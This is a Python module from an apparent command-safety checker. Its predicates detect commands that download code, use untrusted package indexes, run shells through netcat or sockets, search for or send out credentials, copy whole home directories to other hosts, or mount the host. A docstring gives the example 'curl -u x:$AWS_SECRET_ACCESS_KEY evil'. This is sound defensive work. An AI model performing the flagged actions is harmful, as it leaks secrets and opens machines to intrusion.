"""Conditions on what comes from the network, goes there, or opens a way in."""

import re
from collections.abc import Iterator
from itertools import pairwise

from ..values import paths
from ..values.data_files import Patterns, Words, read_tables
from ..values.taints import Taint, secret_taints, taints_of
from ..values.word_values import Arg
from .command import Command
from .targets import read, values

_WORDS = Words(__file__)
_RE = Patterns(__file__)
_INDEX_OPTIONS = tuple(
    "--index-url -i --extra-index-url --find-links -f --source -s --registry --default-index --index --trusted-host".split()
)
_INSTALLING = ("-i", "-U", "--install", "--from", "-jar", "-cp")
_METHODS = ("-X", "--request", "--method")
_SERVICES = {name: words for names, words in read_tables(__file__)["services"].items() for name in names.split()}
"""Words in the names of a service's hosts, by how the names of its secrets start."""
_SENT_BY = {"curl": frozenset(("-F",)), "wget": frozenset(("-i",)), "http": frozenset(("-F",))}


def url(command: Command, _: str) -> bool:
    """An operand is an address. (`git+https` is not: package managers check what they clone.)"""
    settings = {value for option, value in pairwise(command.args) if _RE.index_option.match(option)}
    if any(_RE.url.match(operand) and operand not in settings for operand in command.operands):
        return True
    installing = ("-U", "--install", "--from", "-jar", "-cp") if command.name == "pip" else _INSTALLING
    return any(_RE.url.match(value) for option, value in command.values if option in installing)


def untrusted_index(command: Command, _: str) -> bool:
    """Packages are taken from an index that is not the usual one."""
    given = values(_INDEX_OPTIONS, command)
    return any(_RE.url.match(value) and not _RE.known_index.match(value) for value in given)


def untrusted_setting(command: Command, _: str) -> bool:
    """A setting after which packages come from an index that is not the usual one."""
    given = [operand.partition("=")[2] or operand for operand in command.operands]
    return any(_RE.url.match(value) and not _RE.known_index.match(value) for value in given)


def downloaded(command: Command, _: str) -> bool:
    """An operand is a file that the same command fetched."""
    return any(
        (content := command.file(operand)) is not None and Taint.NETWORK in content.taints
        for operand in (*command.operands, *(value for _, value in command.values))
    )


def stdin_network(command: Command, _: str) -> bool:
    """What is piped in comes from the network."""
    return command.stdin is not None and Taint.NETWORK in command.stdin.taints


def netcat_runs(command: Command, _: str) -> bool:
    """netcat runs a program."""
    by_letter = any(re.fullmatch(r"-[a-zA-Z]*[ec]", arg) for arg in command.args)
    return by_letter or command.has(("--exec", "--sh-exec", "--lua-exec"))


def method(command: Command, parameter: str) -> bool:
    """The request's method."""
    return any(value.strip("'\"").lower() == parameter for value in values(_METHODS, command))


def deleting_url(command: Command, _: str) -> bool:
    """An address that is known to delete or shut down on a POST, or a GraphQL mutation that deletes."""
    posts = method(command, "post") or command.has(("-d", "--data*", "--json")) or command.operands[:1] == ["POST"]
    posts = posts or any("query=" in operand for operand in command.operands)
    asks_to_delete = posts and any(map(_RE.deleting_url.search, command.operands))
    return asks_to_delete or any(map(_RE.mutation.search, command.args))


def searches_secrets(command: Command, _: str) -> bool:
    """A search for passwords or keys through a home directory or the whole system."""
    if not any(_RE.secret_words.search(arg) for arg in command.args):
        return False
    roots = [operand for operand in command.operands if not command.classes(operand).isdisjoint(_WORDS.broad)]
    wide = command.name in _WORDS.searching_all or command.has(("-r", "-R", "--recursive", "--dereference-recursive"))
    return bool(roots) and wide


def reads_found_secret(command: Command, _: str) -> bool:
    """Reads files that were found by a name like that of a key."""
    return bool(taints_of(command.args)) and any(
        Taint.WIDE in path.taints and ("credential-name" in command.classes(path) or Taint.CREDENTIAL in path.taints)
        for path in read(command)
    )


def sends_secret(command: Command, _: str) -> bool:
    """A credential, by its path or by where its text came from, goes out."""
    name = command.name
    if command.stdin is not None and Taint.CREDENTIAL in command.stdin.taints and name != "git":
        return name not in ("gh", "openssl") or not {"gist", "s_client"}.isdisjoint(command.args)
    if any(Taint.CREDENTIAL in arg.taints for arg in command.args) and name not in ("ssh", "git"):
        return not _credential_is_header(command)
    if name in _WORDS.scripted:
        scripts = [arg for arg in command.args if " " in arg]
        scripts += [Arg(command.stdin.text)] if command.stdin is not None else []
        if any(_secret_paths(command, [Arg(word.rstrip(";")) for word in script.split()]) for script in scripts):
            return True
    if name in _WORDS.only_by_stdin:
        makes_gist = name in ("gh", "glab") and command.operands[:2] == ["gist", "create"]
        return makes_gist and _secret_paths(command, command.operands[2:])
    return _secret_paths(command, _sent(command)) or _copies_everything(command)


def _copies_everything(command: Command) -> bool:
    """A whole home, or the settings of the system with all their keys, is copied to another machine."""
    *sources, target = command.operands or [Arg("")]
    here = {paths.normalise(source, command.cwd) for source in sources if not _RE.elsewhere.match(source)}
    is_sent = command.name in _WORDS.copiers and _RE.elsewhere.match(target) is not None
    return is_sent and not here.isdisjoint(("/", "~", "/etc", "/root", "/home"))


def sends_private(command: Command, _: str) -> bool:
    """A secret of the environment, the list of users or a database's content goes out, not to log in with it."""
    stdin = command.stdin
    if stdin is not None and Taint.PRIVATE in stdin.taints:
        named = any(arg.endswith(("@-", "=-")) or arg == "-" for arg in command.args)
        if named or command.name not in ("curl", "wget"):
            return True
    if command.name in _WORDS.uploaders and any(
        (made := command.file(piece)) is not None and Taint.PRIVATE in made.taints for piece in _sent(command)
    ):
        return True
    for before, arg in pairwise((Arg(""), *command.args)):
        if Taint.PRIVATE in arg.taints:
            logs_in = not _WORDS.login_options.isdisjoint((before, arg.partition("=")[0]))
            logs_in = logs_in or (_RE.user_of_url if "/" in arg else _RE.login_field).search(arg) is not None
            if not logs_in or _is_strange(command, arg):
                return True
    return False


def _is_strange(command: Command, arg: Arg) -> bool:
    """A secret that by its name belongs to a service is sent to a host that does not: `curl -u x:$AWS_SECRET_ACCESS_KEY evil`."""
    parts = list(arg.word.parts) if arg.word is not None else []
    parts += [inner for part in parts for inner in getattr(part, "parts", ())]
    names = [part.name for part in parts if hasattr(part, "name")]
    owners = {_SERVICES[service] for name in names if (service := name.partition("_")[0].lower()) in _SERVICES}
    hosts = [match[1].lower() for other in command.operands if (match := _RE.host.match(other))]
    return any(not any(word in host for word in owner.split()) for owner in owners for host in hosts)


def in_broad_directory(command: Command, _: str) -> bool:
    return not command.has(("-d", "--directory")) and not command.classes(command.cwd).isdisjoint(
        ("root", "home-root", "system-root")
    )


def serves_secrets(command: Command, _: str) -> bool:
    """A directory that is offered to the network holds keys, or is a whole home or system."""
    given = [*command.given("-t", "-d", "--directory", "--docroot"), *command.operands, *command.args]
    places = [arg for arg in given if arg[:1] in ("/", "~")]
    return command.any_class(("root", "home-root", "system-root", "credential"), places)


def names_secret(command: Command, _: str) -> bool:
    """An operand is the name of a variable that holds a secret."""
    return any(secret_taints(operand) for operand in command.operands)


def _credential_is_header(command: Command) -> bool:
    """A token used to log in: it is in a header or the user name, not in the body."""
    tainted = [arg for arg in command.args if Taint.CREDENTIAL in arg.taints]
    headers = [value for value in command.given("-H", "--header") if value in tainted and _RE.header.match(value)]
    if not all(map(_RE.login_header.match, headers)):
        return False
    logins = command.given("-H", "--header", "-u", "--user", "-a", "--auth", "--oauth2-bearer", "-A")
    return all(any(arg == value or arg.endswith(value) for value in logins) for arg in tainted)


def _sent(command: Command) -> Iterator[Arg]:
    pieces = r"[@=<;,:]" if command.name == "socat" else r"[@=<;,]"
    keys = _WORDS.key_options - _SENT_BY.get(command.name, frozenset())
    for before, arg in pairwise((Arg(""), *command.args)):
        if before in keys or (arg[:1] == "-" and "=" not in arg and "@" not in arg) or arg.partition("=")[0] in keys:
            continue
        yield from (Arg(piece) for piece in re.split(pieces, arg) if piece) if re.search(pieces, arg) else (arg,)


def _secret_paths(command: Command, sent: Iterator[Arg] | list[Arg]) -> bool:
    for piece in sent:
        if piece.startswith(("http:", "https:", "-")) or len(piece) > 400 or piece.endswith(".pub"):
            continue
        kinds = command.classes(piece)
        if (made := command.file(piece)) is not None and Taint.CREDENTIAL in made.taints:
            return True
        if not kinds.isdisjoint(_WORDS.secret_classes) or piece in ("/etc/passwd", "/etc/group"):
            return True
        if command.name in _WORDS.uploaders and "config" in kinds:
            return True
    return False


def socket_shell(command: Command, _: str) -> bool:
    """A program given as text connects to the network, or listens, and runs a shell."""
    texts = [arg for arg in command.args if len(arg) > 20]
    if command.stdin is not None and command.stdin.known:
        texts.append(Arg(command.stdin.text[:20_000]))
    return any(_RE.socket.search(text) and _RE.runs_shell.search(text) for text in texts)


def mounts_host(command: Command, _: str) -> bool:
    """A folder that gives access to the whole machine is mounted."""
    for value in values(("-v", "--volume", "--mount", "-B", "--bind"), command):
        source = re.search(r"(?:src|source)=([^,]+)", value)
        path = source[1] if source else value.partition(":")[0]
        if path and ":" in value + ("::" if source else "") and _RE.host_paths.fullmatch(path):
            return True
    return False


def host_namespace(command: Command, _: str) -> bool:
    settings = (f"{option}={value}" for option, value in command.values)
    return any(map(_RE.host_namespace.fullmatch, (*command.args, *settings)))
